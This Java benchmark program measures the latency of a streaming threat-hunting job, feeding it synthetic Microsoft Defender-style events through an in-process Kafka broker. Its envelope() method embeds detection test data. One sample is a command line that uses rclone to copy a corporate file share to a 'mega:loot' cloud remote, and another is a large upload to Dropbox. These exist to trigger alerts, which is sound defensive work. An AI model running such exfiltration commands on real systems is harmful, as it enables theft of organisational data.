package io.cloudexfil.hunt.bench;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;

import io.cloudexfil.hunt.InJvmKafka;
import io.cloudexfil.hunt.detection.Detection;
import io.cloudexfil.hunt.functions.HuntWindow;
import io.cloudexfil.hunt.pipeline.StreamHunt;
import io.cloudexfil.hunt.source.DefenderTables;

import org.apache.flink.core.execution.JobClient;
import org.apache.kafka.clients.admin.Admin;
import org.apache.kafka.clients.admin.NewTopic;
import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.apache.kafka.clients.consumer.KafkaConsumer;
import org.apache.kafka.clients.producer.KafkaProducer;
import org.apache.kafka.clients.producer.ProducerRecord;
import org.apache.kafka.common.serialization.ByteArrayDeserializer;
import org.apache.kafka.common.serialization.ByteArraySerializer;
import org.apache.kafka.common.test.KafkaClusterTestKit;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Properties;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicLong;

/**
 * Streaming benchmark (not a test): a real Kafka broker in this JVM, Event Hubs-shaped messages
 * ({@code {"records":[...]}} of 10 envelopes, both tables mixed) produced at a fixed rate, the hunt
 * reading them and writing alerts transactionally to an output topic, and a read_committed
 * consumer measuring, for every alert, the delay from the record's production to its alert's
 * arrival. 1% of the events alert. Prints, per target rate: events/s produced, events/s the job
 * sustained, p50/p99/max delay. The delay includes the checkpoint interval: transactions commit
 * at checkpoints.
 *
 * <p>Run: {@code ./mvnw -B -pl jobs -am -Pbench verify -Dbench.main=io.cloudexfil.hunt.bench.StreamLatencyBenchmark}
 * (options: {@code -Dbench.rates=10000,50000,100000 -Dbench.seconds=30 -Dbench.checkpoint=1s}).
 */
public final class StreamLatencyBenchmark {

    private static final ObjectMapper JSON = new ObjectMapper();

    public static void main(String[] args) throws Exception {
        int[] rates = Arrays.stream(System.getProperty("bench.rates", "10000,50000,100000").split(","))
                .mapToInt(s -> Integer.parseInt(s.trim())).toArray();
        int seconds = Integer.getInteger("bench.seconds", 30);
        Duration checkpoint = Duration.parse("PT" + System.getProperty("bench.checkpoint", "1s").toUpperCase());
        System.out.printf("machine: %d cores, %s%n", Runtime.getRuntime().availableProcessors(), System.getProperty("java.version"));
        System.out.printf("%-10s %-12s %-14s %-10s %-10s %-10s %-8s%n",
                "target/s", "produced/s", "sustained/s", "p50 ms", "p99 ms", "max ms", "alerts");
        try (KafkaClusterTestKit kafka = InJvmKafka.start()) {
            for (int rate : rates) {
                runOnce(kafka, rate, seconds, checkpoint);
            }
        }
        System.exit(0);
    }

    static void runOnce(KafkaClusterTestKit kafka, int rate, int seconds, Duration checkpoint) throws Exception {
        String in = "defender-" + rate;
        String out = "alerts-" + rate;
        try (Admin admin = Admin.create(Map.of("bootstrap.servers", kafka.bootstrapServers()))) {
            admin.createTopics(List.of(new NewTopic(in, 2, (short) 1), new NewTopic(out, 1, (short) 1))).all().get();
        }
        Path work = Files.createTempDirectory("hunt-stream-bench");
        Map<String, String> topics = new HashMap<>();
        DefenderTables.READ.forEach(t -> topics.put(t, in));
        JobClient job = StreamHunt.start(new StreamHunt.Options(null, work.toString(), HuntWindow.unbounded(),
                io.cloudexfil.hunt.detection.DetectionPack.seed(), 2, checkpoint, Duration.ofMinutes(5), Duration.ofSeconds(1),
                Duration.ofHours(1), null, null, true, false,
                new StreamHunt.KafkaIn(kafka.bootstrapServers(), topics, false, "bench-" + rate, null),
                new StreamHunt.KafkaOut(kafka.bootstrapServers(), out, null))).getJobClient().orElseThrow();
        Thread.sleep(5000); // let the job start before the clock runs

        Map<Long, Long> sentAt = new ConcurrentHashMap<>();
        List<Long> delays = java.util.Collections.synchronizedList(new ArrayList<>());
        AtomicBoolean stop = new AtomicBoolean();
        AtomicLong lastAlertAt = new AtomicLong();
        Thread consumer = new Thread(() -> consume(kafka, out, sentAt, delays, stop, lastAlertAt), "alerts-reader");
        consumer.start();

        long produced = produce(kafka, in, rate, seconds, sentAt);
        long start = System.nanoTime();
        long expectedAlerts = sentAt.size();
        long deadline = start + Duration.ofSeconds(60).toNanos();
        while (delays.size() < expectedAlerts && System.nanoTime() < deadline) {
            Thread.sleep(100);
        }
        stop.set(true);
        consumer.join();
        job.cancel().get();

        long[] d = delays.stream().mapToLong(Long::longValue).sorted().toArray();
        double producedRate = produced / (double) seconds;
        // sustained: all produced events processed within the production time plus the final catch-up
        double elapsed = seconds + Math.max(0, (lastAlertAt.get() - start) / 1e9);
        double sustained = delays.size() < expectedAlerts ? produced * (delays.size() / (double) expectedAlerts) / elapsed
                : produced / elapsed;
        System.out.printf("%-10d %-12.0f %-14.0f %-10d %-10d %-10d %d/%d%n", rate, producedRate, sustained,
                pct(d, 0.50), pct(d, 0.99), d.length == 0 ? -1 : d[d.length - 1], d.length, expectedAlerts);
    }

    static long pct(long[] sorted, double p) {
        return sorted.length == 0 ? -1 : sorted[Math.min(sorted.length - 1, (int) Math.ceil(p * sorted.length) - 1)];
    }

    /** Produces {@code rate} events/s for {@code seconds}, 10 records per message; returns the count. */
    static long produce(KafkaClusterTestKit kafka, String topic, int rate, int seconds, Map<Long, Long> sentAt) {
        Properties props = new Properties();
        props.put("bootstrap.servers", kafka.bootstrapServers());
        props.put("linger.ms", "5");
        props.put("batch.size", String.valueOf(1 << 18));
        long n = 0;
        long reportId = 0;
        try (KafkaProducer<byte[], byte[]> p = new KafkaProducer<>(props, new ByteArraySerializer(), new ByteArraySerializer())) {
            long begin = System.nanoTime();
            long total = (long) rate * seconds;
            while (n < total) {
                long due = begin + (long) (n * 1e9 / rate);
                long now = System.nanoTime();
                if (due > now) {
                    java.util.concurrent.locks.LockSupport.parkNanos(due - now);
                }
                StringBuilder msg = new StringBuilder(4096).append("{\"records\":[");
                long sentMillis = System.currentTimeMillis();
                for (int k = 0; k < 10; k++, n++) {
                    boolean alert = n % 100 == 0;
                    long id = reportId++;
                    if (alert) {
                        sentAt.put(id, sentMillis);
                    }
                    msg.append(k == 0 ? "" : ",").append(envelope(id, alert, n % 5 < 3));
                }
                msg.append("]}");
                p.send(new ProducerRecord<>(topic, null, msg.toString().getBytes(StandardCharsets.UTF_8)));
            }
            p.flush();
        }
        return n;
    }

    static String envelope(long id, boolean alert, boolean process) {
        String ts = java.time.Instant.now().toString();
        if (process) {
            // JSON-escaped Windows command lines, as Defender writes them
            String cmd = alert ? "rclone.exe copy \\\\\\\\fs01\\\\share mega:loot -q --transfers 8"
                    : "\\\"C:\\\\Program Files\\\\Microsoft Office\\\\root\\\\Office16\\\\WINWORD.EXE\\\" /n C:\\\\Users\\\\u\\\\report-" + id + ".docx";
            return "{\"time\":\"" + ts + "\",\"category\":\"AdvancedHunting-DeviceProcessEvents\",\"properties\":{"
                    + "\"Timestamp\":\"" + ts + "\",\"DeviceId\":\"d" + (id % 5000) + "\",\"DeviceName\":\"ws" + (id % 5000)
                    + ".corp.contoso.com\",\"ActionType\":\"ProcessCreated\",\"FileName\":\"" + (alert ? "rclone.exe" : "WINWORD.EXE")
                    + "\",\"ProcessCommandLine\":\"" + cmd + "\",\"AccountName\":\"u" + (id % 997)
                    + "\",\"InitiatingProcessFileName\":\"explorer.exe\",\"ReportId\":" + id + "}}";
        }
        return "{\"time\":\"" + ts + "\",\"category\":\"AdvancedHunting-DeviceNetworkEvents\",\"properties\":{"
                + "\"Timestamp\":\"" + ts + "\",\"DeviceId\":\"d" + (id % 5000) + "\",\"DeviceName\":\"ws" + (id % 5000)
                + ".corp.contoso.com\",\"ActionType\":\"ConnectionSuccess\",\"RemoteIP\":\"20.42.65.85\",\"RemotePort\":443,"
                + "\"RemoteUrl\":\"" + (alert ? "https://content.dropboxapi.com/2/files/upload" : "outlook.office365.com")
                + "\",\"BytesSent\":" + (alert ? 52428800 : 1200) + ",\"InitiatingProcessFileName\":\"chrome.exe\","
                + "\"InitiatingProcessAccountName\":\"u\",\"ReportId\":" + id + "}}";
    }

    static void consume(KafkaClusterTestKit kafka, String topic, Map<Long, Long> sentAt, List<Long> delays,
                        AtomicBoolean stop, AtomicLong lastAlertAt) {
        Properties props = new Properties();
        props.put("bootstrap.servers", kafka.bootstrapServers());
        props.put("group.id", "bench-reader-" + topic);
        props.put("auto.offset.reset", "earliest");
        props.put("isolation.level", "read_committed");
        try (KafkaConsumer<byte[], byte[]> c = new KafkaConsumer<>(props, new ByteArrayDeserializer(), new ByteArrayDeserializer())) {
            c.subscribe(List.of(topic));
            while (!stop.get()) {
                for (ConsumerRecord<byte[], byte[]> r : c.poll(Duration.ofMillis(100))) {
                    long now = System.currentTimeMillis();
                    try {
                        JsonNode a = JSON.readTree(r.value());
                        Long sent = sentAt.get(a.path("ReportId").asLong());
                        if (sent != null) {
                            delays.add(now - sent);
                            lastAlertAt.set(System.nanoTime());
                        }
                    } catch (java.io.IOException e) {
                        throw new java.io.UncheckedIOException(e);
                    }
                }
            }
        }
    }
}
